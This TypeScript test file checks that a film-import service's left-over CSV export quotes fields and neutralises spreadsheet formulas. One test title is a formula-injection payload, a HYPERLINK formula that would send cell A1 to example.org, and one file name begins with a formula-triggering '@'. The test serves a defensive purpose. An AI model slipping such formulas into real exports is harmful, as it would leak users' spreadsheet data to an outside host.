import { createTmdbClient } from '@marquee/tmdb-client/client'
import { expect, test } from 'vitest'
import { openApi } from '#test/api.ts'
import { openTestJobs } from '#test/import-jobs.ts'
import { filmNamed, filmPlay, filmRating } from '#test/import-records.ts'
import { uploadImport } from '#test/import-upload.ts'
import { signedIn } from '#test/people.ts'
import { FIRST_UNKNOWN, tmdbAnswer } from '#test/tmdb-service.ts'

test('left-over rows come as a table in which nothing is a formula', async () => {
  const fetch = async (url: string) => tmdbAnswer(url)
  const jobs = openTestJobs({ fetch })
  const api = openApi({ importJobs: () => jobs, tmdb: createTmdbClient({ fetch, token: 'test' }) })
  const ada = await signedIn()
  const id = await uploadImport(api, ada, [
    filmPlay(27205),
    filmPlay(FIRST_UNKNOWN, {
      title: filmNamed(FIRST_UNKNOWN, '=HYPERLINK("https://example.org/?"&A1)'),
      position: { file: '@history.csv', line: 2 },
    }),
    filmRating(FIRST_UNKNOWN + 1, 7, { title: filmNamed(FIRST_UNKNOWN + 1, 'One, two\n"three"') }),
  ])
  await jobs.run()

  const answer = await api.as(ada).api.me.imports[':id']['left-over.csv'].$get({ param: { id } })
  expect(answer.status).toBe(200)
  const [head, ...rows] = (await answer.text()).split('\r\n')
  expect(head).toBe('file,line,source,what,title,year,season,episode,date,rating,reason')
  expect(rows).toEqual([
    `'@history.csv,2,trakt,play,"'=HYPERLINK(""https://example.org/?""&A1)",2010,,,2026-04-01,,TMDB has no such title`,
    `history.json,1,trakt,rating,"One, two\n""three""",2010,,,2026-04-01,7,TMDB has no such title`,
    '',
  ])
})
